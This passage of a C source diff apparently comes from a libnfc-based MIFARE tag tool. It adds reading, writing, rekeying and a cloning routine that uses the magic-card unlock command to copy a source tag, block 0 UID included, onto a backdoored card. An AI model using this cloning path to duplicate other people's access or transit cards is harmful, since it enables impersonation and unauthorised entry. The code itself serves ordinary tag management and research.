+  if (nfc_initiator_select_passive_target(device,
+                                          mf_nfc_modulation,
+                                          pinned_uid_len ? pinned_uid : NULL,
+                                          pinned_uid_len,
+                                          &target) <= 0) {
+    return false;
+  }
+  return true;
+}
+
+// Select the tag at the start of a command. A held device may have
+// left the tag selected (e.g. by mf_wait_for_arrival), and a selected
+// tag doesn't answer a new select; cycle the field if needed.
+bool mf_find_target() {
+  return mf_select_target() || (device_held && mf_restart_target());
+}
+
+// Select the target again, waiting for it to come back if it has
+// left the field. Return false if the job was cancelled while waiting.
+bool mf_wait_for_target() {
+  if (mf_select_target())
+    return true;
+
+  printf("Tag left the field. Waiting...\n");
+  struct timespec delay = { .tv_sec = 0, .tv_nsec = 50 * 1000 * 1000 };
+  while (!job_cancelled()) {
+    nanosleep(&delay, NULL);
+    if (mf_select_target()) {
+      printf("Tag is back.\n");
+      return true;
+    }
+  }
+  return false;
+}
+
+// Abort the current exchange with the tag and select it again. If
+// the tag doesn't answer, reset it by cycling the field.
+bool mf_restart_target() {
+  if (mf_select_target())
+    return true;
+
+  if (nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, false) < 0 ||
+      nfc_device_set_property_bool(device, NP_ACTIVATE_FIELD, true) < 0)
+    return false;
+
+  return mf_select_target();
+}
+
+/**
+ * Unlocking the card allows writing to block 0 of some pirate cards.
+ */
+bool mf_unlock() {
+  static uint8_t  abtHalt[4] = { 0x50, 0x00, 0x00, 0x00 };
+
+  // Special unlock command
+  static const uint8_t  abtUnlock1[1] = { 0x40 };
+  static const uint8_t  abtUnlock2[1] = { 0x43 };
+
+  // Disable CRC and parity checking
+  if (nfc_device_set_property_bool(device, NP_HANDLE_CRC, false) < 0)
+    return false;
+
+  // Disable easy framing. Use raw send/receive methods
+  if (nfc_device_set_property_bool (device, NP_EASY_FRAMING, false) < 0)
+    return false;
+
+  // Initialize transmision
+  iso14443a_crc_append(abtHalt, 2);
+  transmit_bytes(abtHalt, 4);
+
+  // Send unlock
+  if (!transmit_bits (abtUnlock1, 7))
+    return false;
+
+  if (!transmit_bytes (abtUnlock2, 1))
+    return false;
+
+  // Reset reader configuration. CRC and easy framing.
+  if (nfc_device_set_property_bool (device, NP_HANDLE_CRC, true) < 0)
+    return false;
+  if (nfc_device_set_property_bool (device, NP_EASY_FRAMING, true) < 0)
+    return false;
+
+  return true;
+}
+
+bool mf_read_tag_internal(mf_tag_t* tag,
+                          const mf_tag_t* keys, mf_key_type_t key_type) {
+  mifare_param mp;
+
+  static mf_tag_t buffer_tag;
+  clear_tag(&buffer_tag);
+
+  int error = 0;
+
+  printf("Reading: ["); fflush(stdout);
+
+  // Read the card from end to begin
+  for (int block_it = (int)block_count(size) - 1; block_it >= 0; --block_it) {
+    size_t block = (size_t)block_it;
+
+    // Stop at a sector boundary if the job was cancelled. Partial
+    // reads are not copied to the tag.
+    if (is_trailer_block(block) && job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
+
+    // Print progress for the unlocked read
+    if (key_type == MF_KEY_UNLOCKED && is_trailer_block(block)) {
+      printf("."); fflush(stdout);
+    }
+
+    // Authenticate everytime we reach a trailer block
+    // unless we are doing an unlocked read
+    if (key_type != MF_KEY_UNLOCKED && is_trailer_block(block)) {
+
+      // Try to authenticate for the current sector
+      uint8_t* key = key_from_tag(keys, key_type, block);
+      if (!mf_authenticate_retry(block, key, key_type)) {
+        // Progress indication and error report
+        printf("0x%02zx", block_to_sector(block));
+        if (block != 3) printf(".");
+        fflush(stdout);
+
+        block_it -= (int)sector_size(block) - 1; // Skip the rest of the sector blocks
+        error = 1;
+      }
+      else {
+        // Try to read the trailer (only to *read* the access bits)
+        if (mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+          // Copy the keys over to our tag buffer
+          key_to_tag(&buffer_tag, keys->amb[block].mbt.abtKeyA, MF_KEY_A, block);
+          key_to_tag(&buffer_tag, keys->amb[block].mbt.abtKeyB, MF_KEY_B, block);
+
+          // Store the retrieved access bits in the tag buffer
+          memcpy(buffer_tag.amb[block].mbt.abtAccessBits,
+                 mp.mpd.abtData + 6, 4);
+        } else {
+          printf ("\nUnable to read trailer block: 0x%02zx.\n", block);
+          return false;
+        }
+        printf("."); fflush(stdout); // Progress indicator
+      }
+    }
+
+    else { // I.e. not a sector trailer
+      // Try to read out the block
+      if (!mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+        printf("\nUnable to read block: 0x%02zx.\n", block);
+        return false;
+      }
+      memcpy(buffer_tag.amb[block].mbd.abtData, mp.mpd.abtData, 0x10);
+    }
+  }
+
+  // Terminate progress indicator
+  if (error)
+    printf("] Auth errors in indicated sectors.\n");
+  else
+    printf("] Success!\n");
+
+  // Success! Copy the data
+  // todo: Or return static ptr?
+  memcpy(tag, &buffer_tag, MF_4K);
+
+  return true;
+}
+
+
+bool mf_read_blocks_internal(mf_tag_t* tag,
+                             const size_t* blocks, size_t count,
+                             const mf_tag_t* keys, mf_key_type_t key_type) {
+  mifare_param mp;
+
+  static mf_block_t buffer[256];
+
+  // The sector the reader is authenticated to, or -1
+  int auth_sector = -1;
+  size_t sectors = 0;
+  double start = parallel_time();
+
+  for (size_t i = 0; i < count; ++i) {
+    size_t block = blocks[i];
+
+    if (block >= block_count(size)) {
+      printf("Block 0x%02zx is outside the %s tag.\n", block, sprint_size(size));
+      return false;
+    }
+
+    // Only authenticate when moving to another sector
+    int sector = (int)block_to_sector(block);
+    if (sector != auth_sector) {
+      if (job_cancelled())
+        return false;
+
+      uint8_t* key = key_from_tag(keys, key_type, block);
+      if (!mf_authenticate_retry(block, key, key_type)) {
+        printf("Authentication failed for sector 0x%02x with key %c: %s\n",
+               sector, key_type, sprint_key(key));
+        return false;
+      }
+      auth_sector = sector;
+      ++sectors;
+    }
+
+    if (!mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+      printf("Unable to read block: 0x%02zx.\n", block);
+      return false;
+    }
+    memcpy(buffer[i].mbd.abtData, mp.mpd.abtData, 0x10);
+
+    // The keys can't be read; take them from the key set
+    if (is_trailer_block(block)) {
+      memcpy(buffer[i].mbt.abtKeyA, keys->amb[block].mbt.abtKeyA, 6);
+      memcpy(buffer[i].mbt.abtKeyB, keys->amb[block].mbt.abtKeyB, 6);
+    }
+  }
+
+  // All blocks read, copy them to the tag
+  for (size_t i = 0; i < count; ++i)
+    memcpy(&tag->amb[blocks[i]], &buffer[i], sizeof(mf_block_t));
+
+  printf("Read %zu block(s) in %zu sector(s) in %.3fs.\n",
+         count, sectors, parallel_time() - start);
+
+  return true;
+}
+
+
+bool mf_write_range_internal(const mf_tag_t* tag,
+                             size_t first_bit, size_t bits,
+                             const mf_tag_t* keys, mf_key_type_t key_type) {
+  mifare_param mp;
+
+  const size_t block_bits = sizeof(mf_block_t) * 8;
+  size_t end_bit = first_bit + bits;
+  size_t first_block = first_bit / block_bits;
+  size_t last_block = (end_bit - 1) / block_bits;
+
+  if (last_block >= block_count(size)) {
+    printf("Block 0x%02zx is outside the %s tag.\n",
+           last_block, sprint_size(size));
+    return false;
+  }
+
+  // Check the trailers before anything is written
+  for (size_t block = first_block; block <= last_block; ++block) {
+    if (!is_trailer_block(block))
+      continue;
+    if (block * block_bits < first_bit || (block + 1) * block_bits > end_bit) {
+      printf("The field covers part of trailer 0x%02zx; only whole "
+             "trailers are written.\n", block);
+      return false;
+    }
+    if (!access_bits_valid(tag->amb[block].mbt.abtAccessBits)) {
+      printf("Invalid access bits in trailer 0x%02zx.\n", block);
+      return false;
+    }
+  }
+
+  // The sector the reader is authenticated to, or -1
+  int auth_sector = -1;
+  size_t written = 0;
+  size_t sectors = 0;
+  double start = parallel_time();
+
+  for (size_t block = first_block; block <= last_block; ++block) {
+
+    // First block on tag is read only
+    if (block == 0) {
+      printf("Block 0 is read only, skipped.\n");
+      continue;
+    }
+
+    // Only authenticate when moving to another sector
+    int sector = (int)block_to_sector(block);
+    if (sector != auth_sector) {
+      if (job_cancelled())
+        return false;
+
+      uint8_t* key = key_from_tag(keys, key_type, block);
+      if (!mf_authenticate_retry(block, key, key_type)) {
+        printf("Authentication failed for sector 0x%02x with key %c: %s\n",
+               sector, key_type, sprint_key(key));
+        return false;
+      }
+      auth_sector = sector;
+      ++sectors;
+    }
+
+    const uint8_t* data = tag->amb[block].mbd.abtData;
+    if (block * block_bits >= first_bit && (block + 1) * block_bits <= end_bit) {
+      memcpy(mp.mpd.abtData, data, 0x10);
+    }
+    else {
+      // Keep the bits of the block outside the field
+      if (!mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+        printf("Unable to read block: 0x%02zx.\n", block);
+        return false;
+      }
+      for (size_t i = 0; i < block_bits; ++i) {
+        size_t bit = block * block_bits + i;
+        if (bit < first_bit || bit >= end_bit)
+          continue;
+        uint8_t mask = (uint8_t)(1 << (i % 8));
+        mp.mpd.abtData[i / 8] =
+          (uint8_t)((mp.mpd.abtData[i / 8] & ~mask) | (data[i / 8] & mask));
+      }
+    }
+
+    if (!mf_block_cmd(MC_WRITE, block, &mp, keys, key_type)) {
+      printf("Unable to write block: 0x%02zx.\n", block);
+      return false;
+    }
+    ++written;
+  }
+
+  // The field is all in the manufacturer block; not an error
+  if (written == 0) {
+    printf("Nothing else in range, nothing written.\n");
+    return true;
+  }
+
+  printf("Wrote %zu block(s) in %zu sector(s) in %.3fs.\n",
+         written, sectors, parallel_time() - start);
+
+  return true;
+}
+
+
+bool mf_write_tag_internal(const mf_tag_t* tag,
+                           const mf_tag_t* keys,
+                           mf_key_type_t key_type) {
+
+  mifare_param mp;
+  int error = 0;
+
+  printf("Writing %s tag [", sprint_size(size)); fflush(stdout);
+
+  // Process each sector in turn
+  for (int header_block_it = sector_header_iterator(0);
+       header_block_it != -1;
+       header_block_it = sector_header_iterator(size)) {
+    size_t header_block = (size_t)header_block_it;
+
+    // Stop between sectors if the job was cancelled
+    if (job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
 
     // Authenticate
     uint8_t* key = key_from_tag(keys, key_type, header_block);
     if (key_type != MF_KEY_UNLOCKED) {
-      if (!mf_authenticate(header_block, key, key_type)) {
+      if (!mf_authenticate_retry(header_block, key, key_type)) {
         // Progress indication and error report
         if (header_block != 0) printf(".");
         printf("0x%02zx", block_to_sector(header_block));
         fflush(stdout);
 
-        error = 1;
-        continue; // Skip the rest of the sector blocks
+        error = 1;
+        continue; // Skip the rest of the sector blocks
+      }
+    }
+
+    // Write the sectors blocks
+    for (size_t block = header_block, trailer = block_to_trailer(header_block);
+         block < trailer; ++block) {
+
+      // First block on tag is read only - skip it unless unlocked
+      if (block == 0 && key_type != MF_KEY_UNLOCKED)
+        continue;
+
+      // Try to write the data block
+      memcpy (mp.mpd.abtData, tag->amb[block].mbd.abtData, 0x10);
+
+      // do not write a block 0 with incorrect BCC - card will be made invalid!
+      if (block == 0) {
+        if((mp.mpd.abtData[0] ^ mp.mpd.abtData[1] ^ mp.mpd.abtData[2] ^
+            mp.mpd.abtData[3] ^ mp.mpd.abtData[4]) != 0x00) {
+          printf ("\nError: incorrect BCC in MFD file!\n"); // ADD DATA
+          return false;
+        }
+      }
+
+      // Write the data block
+      if (!mf_block_cmd(MC_WRITE, block, &mp, keys, key_type)) {
+        printf("\nUnable to write block: 0x%02zx.\n", block);
+        return false;
+      }
+    }
+
+    // Auth ok and sector read ok, finish up by reading trailer
+    size_t trailer_block = block_to_trailer(header_block);
+    memcpy (mp.mpd.abtData, tag->amb[trailer_block].mbt.abtKeyA, 6);
+    memcpy (mp.mpd.abtData + 6, tag->amb[trailer_block].mbt.abtAccessBits, 4);
+    memcpy (mp.mpd.abtData + 10, tag->amb[trailer_block].mbt.abtKeyB, 6);
+
+    // Try to write the trailer
+    if (!mf_block_cmd(MC_WRITE, trailer_block, &mp, keys, key_type)) {
+      printf("\nUnable to write block: 0x%02zx.\n", trailer_block);
+      return false;
+    }
+
+    printf("."); fflush(stdout); // Progress indicator
+  }
+
+  // Terminate progress indicator
+  if (error)
+    printf("] Auth errors in indicated sectors.\n");
+  else
+    printf("] Success!\n");
+
+  return true;
+}
+
+
+/**
+ * Read all blocks of an unlocked tag in order, trailers (with keys) and
+ * block 0 included. No authentication is needed, so the blocks are
+ * streamed one exchange each.
+ */
+bool mf_read_tag_unlocked_internal(mf_tag_t* tag) {
+  mifare_param mp;
+
+  static mf_tag_t buffer_tag;
+  clear_tag(&buffer_tag);
+
+  size_t blocks = block_count(size);
+  double start = parallel_time();
+
+  printf("Reading %s tag: [", sprint_size(size)); fflush(stdout);
+
+  for (size_t block = 0; block < blocks; ++block) {
+
+    // Stop at a sector boundary if the job was cancelled
+    if (block_to_header(block) == block && job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
+
+    if (!mf_fast_block_cmd(MC_READ, block, &mp)) {
+      printf("\nUnable to read block: 0x%02zx.\n", block);
+      return false;
+    }
+    memcpy(buffer_tag.amb[block].mbd.abtData, mp.mpd.abtData, 0x10);
+
+    if (is_trailer_block(block)) {
+      printf("."); fflush(stdout); // Progress indicator
+    }
+  }
+
+  printf("] Success! %zu blocks in %.2fs.\n", blocks, parallel_time() - start);
+
+  memcpy(tag, &buffer_tag, MF_4K);
+
+  return true;
+}
+
+/**
+ * Write all blocks of an unlocked tag in order, block 0 and the
+ * trailers included. No authentication is needed.
+ */
+bool mf_write_tag_unlocked_internal(const mf_tag_t* tag) {
+  mifare_param mp;
+
+  // do not write a block 0 with incorrect BCC - card will be made invalid!
+  const uint8_t* b0 = tag->amb[0].mbd.abtData;
+  if ((b0[0] ^ b0[1] ^ b0[2] ^ b0[3] ^ b0[4]) != 0x00) {
+    printf ("Error: incorrect BCC in MFD file!\n");
+    return false;
+  }
+
+  size_t blocks = block_count(size);
+  double start = parallel_time();
+
+  printf("Writing %s tag: [", sprint_size(size)); fflush(stdout);
+
+  for (size_t block = 0; block < blocks; ++block) {
+
+    // Stop between sectors if the job was cancelled
+    if (block_to_header(block) == block && job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
+
+    memcpy(mp.mpd.abtData, tag->amb[block].mbd.abtData, 0x10);
+    if (!mf_fast_block_cmd(MC_WRITE, block, &mp)) {
+      printf("\nUnable to write block: 0x%02zx.\n", block);
+      return false;
+    }
+
+    if (is_trailer_block(block)) {
+      printf("."); fflush(stdout); // Progress indicator
+    }
+  }
+
+  printf("] Success! %zu blocks in %.2fs.\n", blocks, parallel_time() - start);
+
+  return true;
+}
+
+/**
+ * Read or write a block of an unlocked tag with a single exchange.
+ * nfc_initiator_mifare_cmd sets up easy framing on every call, which
+ * costs a round trip to the reader; mf_unlock has already set it up.
+ * On an error fall back to mf_block_cmd, which retries.
+ */
+bool mf_fast_block_cmd(mifare_cmd mc, size_t block, mifare_param* mp) {
+  uint8_t abtCmd[18] = { mc, (uint8_t)block };
+  size_t szCmd = 2;
+
+  if (mc == MC_WRITE) {
+    memcpy(abtCmd + 2, mp->mpd.abtData, 16);
+    szCmd = 18;
+  }
+
+  int res = nfc_initiator_transceive_bytes(device, abtCmd, szCmd,
+                                           abtRx, sizeof(abtRx), -1);
+  if (mc == MC_READ && res == 16) {
+    memcpy(mp->mpd.abtData, abtRx, 16);
+    return true;
+  }
+  if (mc == MC_WRITE && res >= 0)
+    return true;
+
+  return mf_block_cmd(mc, block, mp, NULL, MF_KEY_UNLOCKED);
+}
+
+
+/**
+ * Read all pages of an Ultralight/NTAG tag. Tags that answer
+ * GET_VERSION (EV1 and NTAG) are read with FAST_READ, a few large
+ * ranges. Other tags are read with READ, 4 pages at a time.
+ */
+bool mf_read_ultralight_internal(mf_tag_t* tag, size_t* pages) {
+
+  static mf_tag_t buffer_tag;
+  clear_tag(&buffer_tag);
+  uint8_t* data = (uint8_t*)&buffer_tag;
+
+  size_t page_count = mf_ul_page_count();
+  bool fast_read = page_count != 0;
+  if (!fast_read) {
+    // No GET_VERSION; an Ultralight C has 48 pages, an Ultralight 16
+    page_count = mf_ul_read(UL_READ, 0x2b, 0x2b, NULL) ? 0x30 : 0x10;
+    mf_restart_target();
+  }
+
+  size_t step = fast_read ? UL_FAST_READ_PAGES : 4;
+  double start = parallel_time();
+
+  printf("Reading Ultralight tag, %zu pages: [", page_count); fflush(stdout);
+
+  for (size_t page = 0; page < page_count; page += step) {
+
+    if (job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
+
+    size_t last = page + step - 1;
+    if (last >= page_count)
+      last = page_count - 1;
+
+    if (!mf_ul_read(fast_read ? UL_FAST_READ : UL_READ, page, last,
+                    data + page * MF_UL_PAGE_SIZE)) {
+      printf("\nUnable to read page: 0x%02zx.\n", page);
+      return false;
+    }
+
+    printf("."); fflush(stdout); // Progress indicator
+  }
+
+  printf("] Success! %zu pages in %.2fs.\n", page_count, parallel_time() - start);
+
+  memcpy(tag, &buffer_tag, MF_4K);
+  *pages = page_count;
+
+  return true;
+}
+
+/**
+ * Find the number of pages from GET_VERSION, which EV1 and NTAG tags
+ * answer. Return 0 if the tag didn't answer (the tag is selected
+ * again) or the storage size is unknown.
+ */
+size_t mf_ul_page_count() {
+  static const uint8_t cmd[1] = { UL_GET_VERSION };
+
+  // Total number of pages by storage size byte
+  static const struct { uint8_t storage; size_t pages; } sizes[] = {
+    { 0x0b, 0x14 },  // Ultralight EV1 MF0UL11, NTAG210
+    { 0x0e, 0x29 },  // Ultralight EV1 MF0UL21, NTAG212
+    { 0x0f, 0x2d },  // NTAG213
+    { 0x11, 0x87 },  // NTAG215
+    { 0x13, 0xe7 },  // NTAG216
+  };
+
+  if (nfc_initiator_transceive_bytes(device, cmd, sizeof(cmd),
+                                     abtRx, sizeof(abtRx), -1) != 8) {
+    mf_restart_target();
+    return 0;
+  }
+
+  for (size_t i = 0; i < sizeof(sizes) / sizeof(sizes[0]); ++i)
+    if (sizes[i].storage == abtRx[6])
+      return sizes[i].pages;
+
+  printf("Unknown storage size: 0x%02x\n", abtRx[6]);
+  return 0;
+}
+
+/**
+ * Read the pages first to last (READ always returns 4 pages; only
+ * the requested ones are kept) into data, unless it is NULL. Retry
+ * according to the retry policy.
+ */
+bool mf_ul_read(uint8_t cmd, size_t first, size_t last, uint8_t* data) {
+  uint8_t abtCmd[3] = { cmd, (uint8_t)first, (uint8_t)last };
+  size_t szCmd = cmd == UL_FAST_READ ? 3 : 2;
+  int expected = cmd == UL_FAST_READ ?
+    (int)((last - first + 1) * MF_UL_PAGE_SIZE) : 16;
+
+  for (int attempt = 0; ; ++attempt) {
+    int res = nfc_initiator_transceive_bytes(device, abtCmd, szCmd,
+                                             abtRx, sizeof(abtRx), -1);
+    if (res == expected) {
+      if (attempt)
+        retry_stats_add(first, RETRY_READ, attempt, RETRY_OK);
+      if (data)
+        memcpy(data, abtRx, (last - first + 1) * MF_UL_PAGE_SIZE);
+      return true;
+    }
+
+    // Probing (no data) or a NAK from the tag; no point in retrying
+    if (data == NULL)
+      return false;
+    if (res == NFC_ERFTRANS) {
+      retry_stats_add(first, RETRY_READ, attempt, RETRY_DENIED);
+      return false;
+    }
+
+    if (attempt >= retry_policy.budget[RETRY_READ] || job_cancelled()) {
+      retry_stats_add(first, RETRY_READ, attempt, RETRY_FAILED);
+      return false;
+    }
+
+    retry_backoff(attempt);
+    mf_restart_target();
+  }
+}
+
+
+/**
+ * Clone the selected (source) tag to a target tag. The source is read
+ * a sector at a time with the keys. With two readers, each sector is
+ * written to the target right after it has been read. With one, the
+ * data is kept in memory until the source has been replaced by the
+ * target. Block 0 and the trailers are checked as they are read.
+ */
+bool mf_clone_internal(const mf_tag_t* keys, mf_key_type_t key_type) {
+
+  static mf_tag_t clone_tag;
+  clear_tag(&clone_tag);
+
+  mf_size_t source_size = size;
+  uint8_t source_uid[10];
+  memcpy(source_uid, target.nti.nai.abtUid, sizeof(source_uid));
+
+  double start = parallel_time();
+  bool unlocked = false;
+
+  if (other_device) {
+    printf("Using two readers. Present the target tag on: %s\n",
+           nfc_device_get_name(other_device));
+    mf_swap_reader();
+    bool res = mf_clone_present_target(source_uid, source_size, &unlocked);
+    mf_swap_reader();
+    if (!res)
+      return false;
+  }
+
+  printf("Cloning %s tag: [", sprint_size(source_size)); fflush(stdout);
+
+  for (int header_block_it = sector_header_iterator(0);
+       header_block_it != -1;
+       header_block_it = sector_header_iterator(source_size)) {
+    size_t header_block = (size_t)header_block_it;
+
+    // Stop between sectors if the job was cancelled
+    if (job_cancelled()) {
+      printf("]\n");
+      return false;
+    }
+
+    if (!mf_clone_read_sector(&clone_tag, header_block, keys, key_type))
+      return false;
+
+    // Write it to the target right away
+    if (other_device) {
+      mf_swap_reader();
+      bool res = mf_clone_write_sector(&clone_tag, header_block,
+                                       keys, key_type, unlocked);
+      mf_swap_reader();
+      if (!res)
+        return false;
+    }
+
+    printf("."); fflush(stdout); // Progress indicator
+  }
+
+  if (!other_device) {
+    double read_time = parallel_time() - start;
+    printf("] Read in %.2fs.\n", read_time);
+
+    printf("Replace the source tag with the target tag.\n");
+    if (!mf_clone_present_target(source_uid, source_size, &unlocked))
+      return false;
+
+    double write_start = parallel_time();
+    printf("Writing: ["); fflush(stdout);
+
+    for (int header_block_it = sector_header_iterator(0);
+         header_block_it != -1;
+         header_block_it = sector_header_iterator(source_size)) {
+      size_t header_block = (size_t)header_block_it;
+
+      if (job_cancelled()) {
+        printf("]\n");
+        return false;
+      }
+
+      if (!mf_clone_write_sector(&clone_tag, header_block,
+                                 keys, key_type, unlocked))
+        return false;
+
+      printf("."); fflush(stdout); // Progress indicator
+    }
+
+    printf("] Written in %.2fs.\n", parallel_time() - write_start);
+  }
+  else {
+    printf("]\n");
+  }
+
+  printf("Cloned %s tag%s in %.2fs.\n", sprint_size(source_size),
+         unlocked ? " (with block 0)" : "", parallel_time() - start);
+
+  return true;
+}
+
+/**
+ * Read a sector of the source tag into the tag. The keys are taken
+ * from 'keys', since key A (and often B) can't be read. The access bits
+ * and block 0 (BCC) are checked, so a bad read never reaches the target.
+ */
+bool mf_clone_read_sector(mf_tag_t* tag, size_t header_block,
+                          const mf_tag_t* keys, mf_key_type_t key_type) {
+  mifare_param mp;
+  size_t trailer = block_to_trailer(header_block);
+
+  if (!mf_authenticate_retry(header_block,
+                             key_from_tag(keys, key_type, header_block),
+                             key_type)) {
+    printf("\nUnable to authenticate to source sector: 0x%02zx.\n",
+           block_to_sector(header_block));
+    return false;
+  }
+
+  for (size_t block = header_block; block <= trailer; ++block) {
+    if (!mf_block_cmd(MC_READ, block, &mp, keys, key_type)) {
+      printf("\nUnable to read source block: 0x%02zx.\n", block);
+      return false;
+    }
+    memcpy(tag->amb[block].mbd.abtData, mp.mpd.abtData, 0x10);
+  }
+
+  key_to_tag(tag, keys->amb[trailer].mbt.abtKeyA, MF_KEY_A, trailer);
+  key_to_tag(tag, keys->amb[trailer].mbt.abtKeyB, MF_KEY_B, trailer);
+
+  if (!access_bits_valid(tag->amb[trailer].mbt.abtAccessBits)) {
+    printf("\nInvalid access bits in source trailer: 0x%02zx.\n", trailer);
+    return false;
+  }
+
+  const uint8_t* b0 = tag->amb[0].mbd.abtData;
+  if (header_block == 0 && (b0[0] ^ b0[1] ^ b0[2] ^ b0[3] ^ b0[4]) != 0x00) {
+    printf("\nError: incorrect BCC in source block 0!\n");
+    return false;
+  }
+
+  return true;
+}
+
+/**
+ * Write a sector of the tag to the target. An unlocked target is
+ * written as is, block 0 included. Otherwise the sector is
+ * authenticated with the source key, or the transport key (blank
+ * tag), and block 0 is skipped. The trailer is written last.
+ */
+bool mf_clone_write_sector(const mf_tag_t* tag, size_t header_block,
+                           const mf_tag_t* keys, mf_key_type_t key_type,
+                           bool unlocked) {
+  static const uint8_t transport_key[6] = {
+    0xff, 0xff, 0xff, 0xff, 0xff, 0xff
+  };
+
+  // The keys that work on the target, for the retries of mf_block_cmd
+  static mf_tag_t target_keys;
+
+  mifare_param mp;
+  size_t trailer = block_to_trailer(header_block);
+  mf_key_type_t target_key_type = key_type;
+
+  if (!unlocked) {
+    const uint8_t* key = key_from_tag(keys, key_type, header_block);
+    if (!mf_authenticate_retry(header_block, key, key_type)) {
+      key = transport_key;
+      target_key_type = MF_KEY_A;
+      if (!mf_authenticate_retry(header_block, key, MF_KEY_A)) {
+        printf("\nUnable to authenticate to target sector: 0x%02zx.\n",
+               block_to_sector(header_block));
+        return false;
+      }
+    }
+    key_to_tag(&target_keys, key, target_key_type, trailer);
+  }
+
+  for (size_t block = header_block; block <= trailer; ++block) {
+
+    // Block 0 is read only, unless unlocked
+    if (block == 0 && !unlocked)
+      continue;
+
+    memcpy(mp.mpd.abtData, tag->amb[block].mbd.abtData, 0x10);
+
+    bool res = unlocked ?
+      mf_fast_block_cmd(MC_WRITE, block, &mp) :
+      mf_block_cmd(MC_WRITE, block, &mp, &target_keys, target_key_type);
+    if (!res) {
+      printf("\nUnable to write target block: 0x%02zx.\n", block);
+      return false;
+    }
+  }
+
+  return true;
+}
+
+/**
+ * Wait for the target tag on the current reader; a tag with the source
+ * UID is the source, which has to be removed first. Check the size and
+ * try to unlock it (backdoored tags), so block 0 can be written.
+ */
+bool mf_clone_present_target(const uint8_t* source_uid, mf_size_t source_size,
+                             bool* unlocked) {
+  char uid_str[21];
+
+  for (;;) {
+    if (mf_wait_for_arrival(uid_str))
+      return false;
+
+    if (memcmp(target.nti.nai.abtUid, source_uid, 10) != 0)
+      break;
+
+    if (mf_wait_for_removal())
+      return false;
+  }
+
+  // The tag is selected, but may not answer another select
+  if (!mf_restart_target() || !mf_identify_target())
+    return false;
+
+  if (size < source_size) {
+    printf("The target tag is %s, the source %s.\n",
+           sprint_size(size), sprint_size(source_size));
+    return false;
+  }
+
+  // A failed unlock leaves the reader in raw mode
+  *unlocked = mf_unlock();
+  if (!*unlocked && (!mf_configure_device() || !mf_restart_target()))
+    return false;
+
+  printf("Target tag %s%s.\n", uid_str, *unlocked ? ", unlocked" : "");
+  size = source_size;
+
+  return true;
+}
+
+void mf_swap_reader() {
+  nfc_device* d = device;
+  device = other_device;
+  other_device = d;
+
+  nfc_target t = target;
+  target = other_target;
+  other_target = t;
+}
+
+
+bool mf_rekey_internal(const mf_tag_t* old_keys, const mf_tag_t* new_keys,
+                       mf_key_type_t key_type) {
+
+  static rekey_journal_t journal;
+  if (rekey_journal_open(&journal, target.nti.nai.abtUid,
+                         target.nti.nai.szUidLen, rekey_keys_hash(new_keys))) {
+    rekey_journal_close(&journal, false);
+    return false;
+  }
+
+  double start = parallel_time();
+  size_t done = 0;
+  bool res = true;
+
+  printf("Rekeying %s tag: [", sprint_size(size)); fflush(stdout);
+
+  for (int header_block_it = sector_header_iterator(0);
+       header_block_it != -1;
+       header_block_it = sector_header_iterator(size)) {
+    size_t header_block = (size_t)header_block_it;
+
+    // Stop between sectors if the job was cancelled
+    if (job_cancelled()) {
+      printf("]\n");
+      res = false;
+      break;
+    }
+
+    // Finished by an earlier, interrupted, rekey
+    if (journal.state[block_to_sector(header_block)] == REKEY_DONE) {
+      printf("-"); fflush(stdout);
+      ++done;
+      continue;
+    }
+
+    if (!mf_rekey_sector(&journal, header_block, old_keys, new_keys, key_type)) {
+      res = false;
+      break;
+    }
+
+    printf("."); fflush(stdout); // Progress indicator
+  }
+
+  rekey_journal_close(&journal, res);
+
+  if (!res) {
+    printf("Run the rekey again to finish the tag, the progress is in: %s\n",
+           rekey_journal_file_name(target.nti.nai.abtUid,
+                                   target.nti.nai.szUidLen));
+    return false;
+  }
+
+  printf("] Rekeyed in %.2fs", parallel_time() - start);
+  if (done)
+    printf(" (%zu sectors done before)", done);
+  printf(".\n");
+
+  return true;
+}
+
+/**
+ * Return true if the keys of a sector authenticate with their new
+ * values: the key of key_type and the other key if it changes. Only a
+ * key that changes tells if the trailer was written; changed tells if
+ * there is one.
+ */
+bool mf_rekey_verify(size_t header_block, const mf_tag_t* old_keys,
+                     const mf_tag_t* new_keys, mf_key_type_t key_type,
+                     bool* changed) {
+  mf_key_type_t other = key_type == MF_KEY_A ? MF_KEY_B : MF_KEY_A;
+  uint8_t key[6];
+
+  *changed = false;
+  mf_key_type_t types[2] = { other, key_type };
+  for (int i = 0; i < 2; ++i) {
+    // key_from_tag returns a static buffer
+    memcpy(key, key_from_tag(old_keys, types[i], header_block), 6);
+    bool differs =
+      memcmp(key, key_from_tag(new_keys, types[i], header_block), 6) != 0;
+    *changed = *changed || differs;
+    if (types[i] == other && !differs)
+      continue;
+
+    memcpy(key, key_from_tag(new_keys, types[i], header_block), 6);
+    if (!mf_authenticate_retry(header_block, key, types[i]))
+      return false;
+  }
+  return true;
+}
+
+/**
+ * Write the new keys to the trailer of a sector and verify them. The
+ * journal gets the sector 'writing' before the write and 'done' once
+ * every new key that changes authenticates. A write that was
+ * interrupted may or may not have reached the tag, so a sector that
+ * isn't 'done' is checked with the new keys first. If no key changes,
+ * that check can't tell, and the trailer is written again.
+ */
+bool mf_rekey_sector(rekey_journal_t* journal, size_t header_block,
+                     const mf_tag_t* old_keys, const mf_tag_t* new_keys,
+                     mf_key_type_t key_type) {
+  mifare_param mp;
+  size_t sector = block_to_sector(header_block);
+  size_t trailer = block_to_trailer(header_block);
+  uint8_t old_key[6], new_key[6];
+  bool changed;
+
+  // key_from_tag returns a static buffer
+  memcpy(old_key, key_from_tag(old_keys, key_type, header_block), 6);
+  memcpy(new_key, key_from_tag(new_keys, key_type, header_block), 6);
+
+  // The write of an earlier rekey probably went through
+  if (journal->state[sector] == REKEY_WRITING &&
+      mf_rekey_verify(header_block, old_keys, new_keys, key_type, &changed) &&
+      changed)
+    return rekey_journal_mark(journal, sector, REKEY_DONE) == 0;
+
+  if (!mf_authenticate_retry(header_block, old_key, key_type)) {
+    if (!mf_rekey_verify(header_block, old_keys, new_keys, key_type,
+                         &changed)) {
